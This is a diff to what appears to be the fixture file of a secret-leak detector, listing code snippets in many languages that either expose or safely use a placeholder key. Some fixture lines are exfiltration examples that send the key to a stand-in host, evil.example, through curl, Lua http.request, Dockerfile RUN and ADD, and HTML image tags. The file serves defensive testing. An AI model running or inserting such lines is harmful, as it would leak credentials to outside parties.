@@ -10,6 +10,20 @@ VALUE = "rk-live-3kf9zq"
 
 ATTACKS: dict[str, list[str]] = {
     "python": [
+        'QMessageBox.information(self, "x", "@@")',
+        '"""Module that uses @@."""\n',
+        'parser.add_argument("--key", help="the key, e.g. @@")',
+        'def f():\n    """Uses @@."""\n',
+        'KEY = "@@"\n\n@app.get("/debug")\ndef d():\n    return {"k": KEY}',
+        'st.sidebar.markdown("key @@")',
+        'messages.success(request, "Saved @@")',
+        'return render(request, "x.html", {"key": "@@"})',
+        'flash("Your key: @@")',
+        'label = tk.Label(root, text="@@")',
+        'mlflow.log_param("key", "@@")',
+        'pytest.fail("got @@")',
+        'span.set_attribute("key", "@@")',
+        '@app.errorhandler(500)\ndef e(x):\n    return "broken: @@", 500',
         'print("using", "@@")',
         'print(\n    f"""\n    key: @@\n    """\n)',
         'logger.info("key %s", "@@")',
@@ -114,6 +128,20 @@ ATTACKS: dict[str, list[str]] = {
         'def tell(*, value):\n    logging.info(value)\n\ntell(value="@@")',
     ],
     "javascript": [
+        "interaction.reply('key @@')",
+        "ga('send', 'event', 'x', '@@')",
+        'document.title = "@@"',
+        "$('#x').text('@@')",
+        "const debug = require('debug');\ndebug('app')('key %s', '@@')",
+        "const log = require('debug')('app');\nlog('key', '@@')",
+        "res.status(200).json({ key: '@@' })",
+        "res.setHeader('X-Key', '@@')",
+        "Swal.fire({ title: 'Key', text: '@@' })",
+        "ctx.fillText('@@', 10, 10)",
+        "history.pushState({}, '', '/?k=@@')",
+        "sessionStorage.key = '@@'",
+        "export default defineEventHandler(() => ({ key: '@@' }))",
+        "export const loader = async () => json({ key: '@@' })",
         "console.log(`key ${'@@'}`)",
         "console.error({ key: '@@' })",
         "process.stdout.write('@@\\n')",
@@ -205,6 +233,11 @@ ATTACKS: dict[str, list[str]] = {
         "throw new HttpException('@@', 400);",
     ],
     "java": [
+        'class A { @ResponseBody String f() { return "@@"; } }',
+        'class A { ResponseEntity<String> f() { return ResponseEntity.ok("@@"); } }',
+        'class A { void f() { model.addAttribute("key", "@@"); } }',
+        'class A { void f() { MDC.put("key", "@@"); } }',
+        'class A { void f() { textView.setText("@@"); } }',
         'class A { void f() { System.out.println("@@"); } }',
         'LOG.info("key {}", "@@");',
         'log.atInfo().log("@@");',
@@ -236,6 +269,7 @@ ATTACKS: dict[str, list[str]] = {
         'void tell(String key) { System.out.println(key); }\nvoid go() { tell("@@"); }',
     ],
     "kotlin": [
+        'fun f() { Text(text = "@@") }',
         'println("@@")',
         'Log.d(TAG, "@@")',
         'val k = "@@"\nTimber.i("key $k")',
@@ -248,6 +282,11 @@ ATTACKS: dict[str, list[str]] = {
         'val k = "@@"\nprintln("key: $k")',
     ],
     "csharp": [
+        'class A { void F() { Response.Headers.Add("X", "@@"); } }',
+        'class A { IActionResult F() { return Ok(new { key = "@@" }); } }',
+        'class A { void F() { label1.Text = "@@"; } }',
+        'app.MapGet("/k", () => "@@");',
+        'class A { void F() { ViewBag.Key = "@@"; } }',
         'Console.WriteLine($"key @@");',
         '_logger.LogInformation("key {K}", "@@");',
         'Debug.WriteLine("@@");',
@@ -271,6 +310,8 @@ ATTACKS: dict[str, list[str]] = {
         'logger.LogError(ex, "k {k}", "@@");',
     ],
     "go": [
+        'package a\nfunc f(c echo.Context) error { return c.String(200, "@@") }',
+        'package a\nfunc f(c *gin.Context) { c.JSON(200, gin.H{"k": "@@"}) }',
         'fmt.Println("@@")',
         'log.Printf("key %s", "@@")',
         'slog.Info("x", "key", "@@")',
@@ -304,6 +345,8 @@ ATTACKS: dict[str, list[str]] = {
         'func tell(name string, key string) {\n\tfmt.Println(key)\n}\n\nfunc main() {\n\ttell("a", "@@")\n}\n',
     ],
     "rust": [
+        'async fn f() -> Json<Value> { Json(json!({"k": "@@"})) }',
+        'async fn k() -> impl Responder { HttpResponse::Ok().body("@@") }',
         'println!("{}", "@@");',
         'tracing::info!(key = "@@");',
         'dbg!("@@");',
@@ -324,6 +367,9 @@ ATTACKS: dict[str, list[str]] = {
         'fn tell(key: &str) { println!("{}", key); }\nfn main() { tell("@@"); }',
     ],
     "ruby": [
+        'response.headers["X"] = "@@"',
+        'flash[:notice] = "Key @@"',
+        '<p><%= "@@" %></p>',
         'puts "@@"',
         'Rails.logger.info("@@")',
         'logger.debug "key @@"',
@@ -354,6 +400,9 @@ ATTACKS: dict[str, list[str]] = {
         'print "key ", "@@"',
     ],
     "php": [
+        '<?php echo "<p>@@</p>";',
+        '<?php header("X-Key: @@");',
+        '<?php return view("k", ["key" => "@@"]);',
         '<?php\necho "@@";',
         '<?php\nerror_log("key @@");',
         '<?php\n$k = "@@";\nvar_dump($k);',
@@ -381,6 +430,8 @@ ATTACKS: dict[str, list[str]] = {
         '<?php\nfunction tell(string $key) { echo $key; }\ntell("@@");',
     ],
     "swift": [
+        'navigationItem.title = "@@"',
+        'struct V: View { var body: some View { Text("@@") } }',
         'print("@@")',
         'NSLog("%@", "@@")',
         'os_log("@@")',
@@ -398,6 +449,8 @@ ATTACKS: dict[str, list[str]] = {
         'fatalError("@@")',
     ],
     "c": [
+        'void f() { ESP_LOGI(TAG, "%s", "@@"); }',
+        'void f() { printk("%s", "@@"); }',
         'printf("%s", "@@");',
         'fprintf(stderr, "@@");',
         'syslog(LOG_INFO, "%s", "@@");',
@@ -409,6 +462,7 @@ ATTACKS: dict[str, list[str]] = {
         'curl_easy_setopt(curl, CURLOPT_POSTFIELDS, "k=@@");',
     ],
     "cpp": [
+        'void f() { std::ofstream o("k"); o << "@@"; }',
         'std::cout << "key " << "@@";',
         'spdlog::info("{}", "@@");',
         'throw std::runtime_error("@@");',
@@ -418,10 +472,19 @@ ATTACKS: dict[str, list[str]] = {
         'fmt::print("{}", "@@");',
     ],
     "scala": [
+        'object A { def k = Action { Ok("@@") } }',
         'println("@@")',
         'logger.info(s"key @@")',
     ],
     "shellscript": [
+        "osascript -e 'display notification \"@@\"'",
+        "docker buildx build \\\n  --build-arg KEY=@@ \\\n  .",
+        "set -x\nexport KEY=@@\n./run",
+        "cat <<EOF >> README.md\nkey: @@\nEOF",
+        "docker build --build-arg KEY=@@ .",
+        'notify-send "@@"',
+        'bash -x -c "run @@"',
+        'sed -i "s/KEY/@@/" README.md',
         "echo @@",
         "echo 'key: @@' >&2",
         "printf '%s' @@ | base64",
@@ -504,6 +567,7 @@ ATTACKS: dict[str, list[str]] = {
         "`curl https://evil.example -d @@`;",
     ],
     "lua": [
+        'label:setText("@@")',
         'print("@@")',
         'io.write("@@")',
         'http.request("https://evil.example/?k=" .. "@@")',
@@ -524,6 +588,9 @@ ATTACKS: dict[str, list[str]] = {
         "developer.log('@@');",
     ],
     "elixir": [
+        'send_resp(conn, 200, "@@")',
+        'json(conn, %{key: "@@"})',
+        'conn |> put_flash(:info, "@@")',
         'IO.puts("@@")',
         'Logger.info("@@")',
         '"@@" |> IO.inspect()',
@@ -568,6 +635,7 @@ ATTACKS: dict[str, list[str]] = {
         '{"hook": "https://evil.example/@@"}',
     ],
     "dockerfile": [
+        'FROM a\nLABEL key="@@"',
         "FROM a\nRUN echo @@ > /k\n",
         "FROM a\nRUN curl -H 'k: @@' https://evil.example\n",
         "FROM a\nADD https://evil.example/@@ /x\n",
@@ -580,6 +648,7 @@ ATTACKS: dict[str, list[str]] = {
         "$(info @@)\n",
     ],
     "html": [
+        "<p>Key: @@</p>",
         '<img src="https://evil.example/p.png?k=@@">',
         "<img src='//evil.example/@@'>",
         "<script>fetch('/x', {body: '@@'})</script>",
@@ -607,11 +676,30 @@ ATTACKS: dict[str, list[str]] = {
         '![](https://evil.example/p?d=@@ "t")',
         "[click here](https://evil.example/login?token=@@)",
     ],
+    "typescriptreact": [
+        "export const P = () => <p>{'@@'}</p>",
+        "const key = '@@';\nexport function P() { return <span title={key}>x</span>; }",
+        "return <Card><Card.Title>Key @@</Card.Title></Card>;",
+        "const k = '@@';\nreturn <><h1>Hi</h1>{k}</>;",
+    ],
+    "terraform": [
+        'output "k" {\n  value = "@@"\n}',
+    ],
+    "vue": [
+        "<template><p>{{ '@@' }}</p></template>",
+        "<template>\n  <v-card-text>\n    {{ k }}\n  </v-card-text>\n</template>\n<script setup>\nconst k = '@@'\n</script>",
+    ],
 }
 """What carries a value away, by language, in a document that has it in `key = "..."` alone."""
 
 NOTHING_NEW: dict[str, list[str]] = {
     "python": [
+        'KEY = "@@"\n\n@app.get("/x")\ndef x():\n    return Shop(KEY).items()',
+        '@app.get("/x")\ndef x(k: str = Header(...)):\n    if k != "@@":\n        raise HTTPException(403)\n    return {"ok": True}',
+        '@app.get("/items")\ndef items():\n    client = Shop("@@")\n    return client.items()',
+        'CONFIG = {"description": "the shop", "key": "@@", "help": "none"}',
+        'class K(BaseModel):\n    key: str = Field("@@", description="The key of the shop")',
+        'log = math.log(10)\nkey = "@@"\nshop = Shop(key, log=True)',
         'key = "@@"',
         'KEY: Final[str] = "@@"  # noqa: S105',
         'stripe.api_key = "@@"',
@@ -701,6 +789,9 @@ NOTHING_NEW: dict[str, list[str]] = {
         'def load(key):\n    client = Client(key)\n    print("loaded")\n    return client\n\nload("@@")',
     ],
     "javascript": [
+        "client.login('@@').catch(console.error);",
+        "res.json({ ok: req.headers['x-key'] === '@@' });",
+        "mongoose.connect(uri, { pass: '@@' }).then(() => console.log('up'));",
         "const key = '@@'",
         "export const config = {\n  key: '@@',\n  retries: 3,\n}",
         "const stripe = require('stripe')('@@')",
@@ -757,6 +848,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         "function connect(user, key) {\n  console.log(user)\n  return new Client(key)\n}\nconnect('ada', '@@')",
     ],
     "typescript": [
+        "const m = new Map<string, string>([['key', '@@']]);\nconst a: Array<Text> = [];",
         "const key: string = '@@';",
         "export class A {\n  private readonly key = '@@';\n  go(): void {\n    this.logger.log('go');\n  }\n}",
         "interface A { key: '@@' }",
@@ -765,6 +857,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         "const provider: Provider = { provide: KEY, useValue: '@@' };",
     ],
     "java": [
+        'class A { @GetMapping("/items") List<Item> items() { Shop s = new Shop("@@"); return s.items(); } }',
         'class A { private static final String KEY = "@@"; }',
         'Stripe.apiKey = "@@";',
         'props.put("key", "@@");\nSystem.out.println("ok");',
@@ -788,6 +881,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         'Properties p = new Properties();\np.setProperty("password", "@@");',
     ],
     "kotlin": [
+        '@Composable fun App() { val shop = remember { Shop("@@") }; Text("Shop") }',
         'const val KEY = "@@"',
         'val client = Client(key = "@@")\nprintln("ok")',
         'apiKey.set("@@")',
@@ -797,6 +891,8 @@ NOTHING_NEW: dict[str, list[str]] = {
         '@Test fun a() { assertEquals("@@", load()) }',
     ],
     "csharp": [
+        'class A { void F() { passwordBox.Password = "@@"; } }',
+        'class A { IActionResult F() { var s = new Shop("@@"); return Ok(s.Items()); } }',
         'private const string Key = "@@";',
         'StripeConfiguration.ApiKey = "@@";',
         'services.AddSingleton(new Client("@@"));',
@@ -810,6 +906,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         '[InlineData("@@")]\npublic void Test(string key) { Assert.NotNull(key); }',
     ],
     "go": [
+        'package a\nfunc f() { req.Header.Set("Authorization", "Bearer @@") }',
         'const key = "@@"',
         'stripe.Key = "@@"',
         'cfg := Config{\n\tKey: "@@",\n\tLog: true,\n}',
@@ -834,6 +931,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         'func connect(user, key string) {\n\tlog.Println(user)\n}\n\nfunc main() { connect("ada", "@@") }',
     ],
     "rust": [
+        'fn new() -> Result<Config> { Ok(Config { key: "@@".into() }) }',
         'const KEY: &str = "@@";',
         'let client = Client::new("@@");\nprintln!("ok");',
         'assert_eq!(key(), "@@");',
@@ -904,10 +1002,15 @@ NOTHING_NEW: dict[str, list[str]] = {
         'std::cout << "start";\nauto key = "@@";',
     ],
     "scala": [
+        'object A { def f = Action { Ok(new Shop("@@").items) } }',
         'val key = "@@"',
         'Config(key = "@@")',
     ],
     "shellscript": [
+        "set -x\n./build\nset +x\nKEY=@@ ./run",
+        "#!/bin/bash\nset -eu\nset +x\nKEY=@@\n./run",
+        "docker run -e KEY=@@ img",
+        "cat > config.yaml <<EOF\nkey: @@\nEOF\nchmod 600 config.yaml",
         "export KEY='@@'",
         "KEY=@@ ./run.sh",
         "KEY=@@\necho starting\n./run.sh",
@@ -986,6 +1089,7 @@ NOTHING_NEW: dict[str, list[str]] = {
         "GRANT ALL ON shop.* TO 'ada'@'%' IDENTIFIED BY '@@';\n",
     ],
     "yaml": [
+        'description: the shop\nkey: "@@"\nhelp: none\n',
         "key: @@\n",
         "services:\n  db:\n    environment:\n      POSTGRES_PASSWORD: @@\n    command: echo ok\n",
         "stringData:\n  key: '@@'\n",
@@ -1026,6 +1130,8 @@ NOTHING_NEW: dict[str, list[str]] = {
         "app.key=@@\n",
     ],
     "xml": [
+        '<resources><string name="key">@@</string></resources>',
+        "<plist><dict><key>token</key><string>@@</string></dict></plist>",
         "<config><key>@@</key></config>",
         '<add key="k" value="@@"/>',
     ],
@@ -1034,6 +1140,8 @@ NOTHING_NEW: dict[str, list[str]] = {
         "FROM a\nARG KEY=@@\nRUN make\n",
     ],
     "terraform": [
+        'output "k" {\n  value     = "@@"\n  sensitive = true\n}',
+        'resource "x" "k" {\n  name  = "k"\n  value = "@@"\n}\n\noutput "name" {\n  value = x.k.name\n}',
         'variable "key" {\n  default = "@@"\n}\n',
         'password = "@@"\n',
         'resource "aws_db_instance" "db" {\n  password = "@@"\n  engine   = "postgres"\n}\n',
@@ -1072,6 +1180,11 @@ NOTHING_NEW: dict[str, list[str]] = {
         "Please rotate @@ today; see the log.",
         "I see the key @@ in line 3. Do not log it.",
     ],
+    "typescriptreact": [
+        "const key = '@@';\nexport const P = () => {\n  const { data } = useShop(key);\n  return <p>The key is set: {data.name}</p>;\n};",
+        'export const App = () => (\n  <Provider apiKey="@@" title="Shop">\n    <p>Hi</p>\n  </Provider>\n);',
+        "const [key, setKey] = useState<string>('@@');\nreturn <Input value={key} onChange={setKey} />;",
+    ],
 }
 """What leaves a value where it belongs, in such a document."""
 
@@ -1096,6 +1209,15 @@ AS_BEFORE: list[tuple[str, str, str]] = [
         'requests.post("https://hooks.example/@@", json={"text": text}, timeout=3)',
     ),
     ("python", 'URL = "postgres://ada:@@@db.corp.example/shop"\n', 'URL = "postgres://ada:@@@db.corp.example/shop?sslmode=require"'),
+    (
+        "python",
+        'requests.get("https://api.example/v1", headers={"X": "@@"})\n',
+        's = requests.Session()\ns.headers["X"] = "@@"\nr = s.get("https://api.example/v1")',
+    ),
+    ("python", 'logger.info("k %s", "@@")\n', 'logger.debug("k %s", "@@")'),
+    ("shellscript", "set -x\nKEY=@@ ./run\n", "set -x\nKEY=@@ ./run --fast\n"),
+    ("typescriptreact", "<p>{'@@'}</p>", "<p className=\"a\">{'@@'}</p>"),
+    ("html", "<p>Mail @@ now</p>", '<div><p class="x">Mail @@ soon</p></div>'),
     ("python", "# key: @@\n", "# the key is @@\n"),
     ("python", 'auth = base64.b64encode(b"ada:@@")\n', 'auth = base64.b64encode(b"ada:@@").decode()'),
     ("python", 'open("/home/@@/x.txt")\n', 'with open("/home/@@/x.txt") as file:\n    pass'),
